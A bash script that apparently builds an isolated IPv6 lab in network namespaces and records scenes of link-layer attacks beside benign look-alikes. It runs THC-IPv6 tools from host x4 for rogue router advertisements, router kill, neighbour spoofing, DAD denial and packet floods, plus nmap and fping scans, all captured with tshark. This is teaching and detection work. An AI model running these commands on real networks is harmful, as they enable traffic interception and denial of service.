# shellcheck shell=bash
# Scenes of attacks on an IPv6 link and of what looks like them; sourced by record.sh.
# Captured in the switch, which sees every frame once: a (.1), h2, the router r3 and
# x4, from whom all attacks come.

# shellcheck disable=SC2034
LL3=fe80::ff:fe00:103 LL4=fe80::ff:fe00:104      # of r3 and x4
BAD=2001:db8:bad                                 # what x4 advertises

four() { # [SYSCTL...] : the LAN; settings of a's interface
  party 6 a h2 r3 x4
  router r3
  in_ns x4 sysctl -qw net.ipv6.conf.e1.accept_ra=0
  in_ns r3 ip -6 addr add 2001:db8:2::1/64 dev lo nodad
  set_a "$@"
}
set_a() { local s; for s; do in_ns a sysctl -qw "net.ipv6.conf.e1.$s"; done; }

# a's way to r3 and what is behind it
default_route() { in_ns a ip -6 route add default via $LL3 dev e1; }

# r3 advertises every three or four seconds
genuine() {
  cat >"$TMP/radvd.conf" <<-'CONF'
	interface e1 {
	  AdvSendAdvert on;
	  MinRtrAdvInterval 3;
	  MaxRtrAdvInterval 4;
	  AdvDefaultLifetime 1800;
	  prefix 2001:db8:103::/64 { AdvValidLifetime 7200; AdvPreferredLifetime 3600; };
	  RDNSS 2001:db8:103::53 { AdvRDNSSLifetime 600; };
	};
	CONF
  background r3 'sending\|version' radvd -n -d 1 -m stderr -C "$TMP/radvd.conf" -p "$TMP/radvd.pid"
  RADVD=$!
  sleep 4
}

# spell NS SECONDS COMMAND... : shown, ended after that time if it has not ended itself
spell() {
  echo "\$ timeout $2 ${*:3}" >>"$TMP/$SCENE.txt"
  run_on "$1" sh -c 'timeout -k 2 "$@" || [ $? != 127 ]' sh "${@:2}"
  whole_line
}

whole_line() { # some programs end with dots
  [[ -z $(tail -c 1 "$TMP/$SCENE.txt") ]] || echo >>"$TMP/$SCENE.txt"
}

# beside NS COMMAND... : beside the commands until awaited, or until ended
beside() {
  ASIDE="\$ ${*:2}"
  LC_ALL=C timeout -k 2 90 ip netns exec "$P-$1" stdbuf -oL "${@:2}" >"$TMP/aside" 2>&1 &
  PIDS+=($!) BESIDE=$!
  sleep 1.5
}
awaited() {
  wait "$BESIDE" || true
  { echo "$ASIDE"; cat "$TMP/aside"; } >>"$TMP/$SCENE.txt"
  whole_line
}
ended() { kill "$BESIDE" 2>/dev/null || true; awaited; }

# The switch lets only so many frames of x4 through.
storm_control() { # FRAMES-PER-SECOND
  in_ns lan nft -f - <<-NFT
	table bridge lab {
	  chain in {
	    type filter hook prerouting priority 0
	    iifname "p4" limit rate over $1/second burst 5 packets drop
	  }
	}
	NFT
}

# The marker goes from a to h2, whose addresses are fixed lest an attack is on them;
# then what tshark counts.
over() { # [COLUMN...] : without: type by sender
  local columns=(eth.src icmpv6.type) options=()
  (($#)) && columns=("$@")
  in_ns a ip neigh replace 2001:db8:1::2 lladdr 02:00:00:00:01:02 dev e1 nud permanent
  in_ns h2 ip neigh replace 2001:db8:1::1 lladdr 02:00:00:00:01:01 dev e1 nud permanent
  finish 2001:db8:1::2
  options=("${columns[@]/#/-e }")
  echo "\$ tshark -r $SCENE.pcap -Y icmpv6 -T fields -E occurrence=f ${options[*]} | sort | uniq -c" >>"$OUT/$SCENE.txt"
  # shellcheck disable=SC2068
  tshark -n -r "$OUT/$SCENE.pcap" -Y icmpv6 -T fields -E occurrence=f ${options[@]} 2>/dev/null |
    LC_ALL=C sort | uniq -c >>"$OUT/$SCENE.txt"
}

# A host starts: the check of its link-local address, its groups, its solicitation,
# an address of the prefix and its check. Nobody is attacked.
slaac6() {
  four accept_dad=1 router_solicitations=3
  capture lan br0
  genuine
  in_ns a ip link set e1 down
  in_ns a ip link set e1 up
  sleep 6
  shown ip -6 addr add 2001:db8:1::1/64 dev e1
  sleep 6
  shown ip -6 addr show dev e1
  shown ip -6 route show default
  over
}

# x4 advertises itself beside r3, as better router, until it is stopped.
rogue6() {
  four
  capture lan br0
  genuine
  spell x4 12 atk6-fake_router6 e1 $BAD::/64 $BAD::53
  shown ip -6 addr show dev e1 scope global
  shown ip -6 route show default
  over
}
# Three times, with a DNS server, a search list, a route and the M flag.
rogue6-26() {
  four
  capture lan br0
  genuine
  shown_on x4 atk6-fake_router26 -A $BAD::/64 -R 2001:db8:f4::/48 -D $BAD::53 -L evil.example \
    -M 1400 -F managed -p high -n 3 -i 2 e1
  shown ip -6 route show
  over
}

# r3 seems to say that it is a router no more; x4 sends that with its own MAC.
kill-router6() {
  four
  capture lan br0
  genuine
  shown ip -6 route show default
  spell x4 7 atk6-kill_router6 e1 $LL3
  shown ip -6 route show default
  over
}
# The same by r3 itself, which is shut down.
router-ends6() {
  four
  capture lan br0
  genuine
  shown ip -6 route show default
  kill "$RADVD"
  sleep 1
  shown ip -6 route show default
  over
}

flood() { # FRAMES-PER-SECOND SECONDS COMMAND...
  four
  storm_control "$1"
  capture lan br0
  spell x4 "${@:2}"
  over icmpv6.type
}
flood-router6() { flood 300 2 atk6-flood_router6 e1; }
flood-router26() { flood 50 2 atk6-flood_router26 e1; }
flood-rs6() { flood 200 2 atk6-flood_rs6 -S e1; }
flood-solicit6() { flood 300 2 atk6-flood_solicitate6 e1 2001:db8:1::1 2001:db8:1::1; }
flood-advertise6() { flood 300 2 atk6-flood_advertise6 e1; }
flood-mld6() { flood 300 2 atk6-flood_mld6 e1; }
flood-mld26() { flood 40 2 atk6-flood_mld26 e1; }
flood-ping6() { four; capture lan br0; shown_on x4 ping -n -q -f -i 0.002 -c 800 2001:db8:1::1; over; }

# x4 answers every solicitation, with its own MAC; it forwards nothing.
parasite6() {
  four
  capture lan br0
  beside x4 atk6-parasite6 e1
  shown ping -n -c 5 -i 0.5 -W 1 2001:db8:1::2
  shown ping -n -c 5 -i 0.5 -W 1 2001:db8:1::3
  shown ip -6 neigh show dev e1
  ended
  over
}
# x4 says that h2's address is at x4's MAC, five times, unasked; a has asked h2 itself
# in the capture, or before it.
advertise6() { four; advertised; }
advertise6-known() { four; warm_up 2001:db8:1::2; advertised; }
advertised() {
  capture lan br0
  beside a ping -n -c 16 -i 0.5 -W 1 2001:db8:1::2
  spell x4 6 atk6-fake_advertise6 -n 5 -w 1 e1 2001:db8:1::2
  shown ip -6 neigh show 2001:db8:1::2 dev e1
  awaited
  over
}

# x4 says to every check that it has the address.
dad6-denied() {
  local i
  four accept_dad=1
  capture lan br0
  beside x4 atk6-dos-new-ip6 e1
  for i in 1 2 3 4 5; do
    shown ip -6 addr add "2001:db8:1::a$i/64" dev e1
    sleep 2
  done
  shown ip -6 addr show dev e1 scope global
  ended
  over
}
# Nobody's attack: a wants h2's address; then two want the same, at the same time.
dad6-conflict() {
  four accept_dad=1 router_solicitation_delay=0     # the question is not put off
  in_ns h2 sysctl -qw net.ipv6.conf.e1.accept_dad=1 net.ipv6.conf.e1.router_solicitation_delay=0
  capture lan br0
  shown ip -6 addr add 2001:db8:1::2/64 dev e1
  sleep 2
  shown ip -6 addr add 2001:db8:1::77/64 dev e1
  shown_on h2 ip -6 addr add 2001:db8:1::77/64 dev e1
  sleep 3
  shown ip -6 addr show dev e1 scope global
  shown_on h2 ip -6 addr show dev e1 scope global
  in_ns a ip -6 addr del 2001:db8:1::2/64 dev e1
  over
}

# x4 asks for 128 and 96 addresses, of which a, h2, r3 and x4 are there.
scan6-nmap() { scan shown_on x4 nmap -6 -n -sn 2001:db8:1::/121; }
# shellcheck disable=SC2046
scan6-fping() { scan shown_on x4 fping -6 -r 0 -i 10 -t 1000 $(printf '2001:db8:1::%x ' {1..96}); }
# The same without an address: pings and faulty packets to all nodes.
scan6-alive() { scan spell x4 30 atk6-alive6 e1; }
scan() { four; capture lan br0; "$@"; sleep 4; over; }
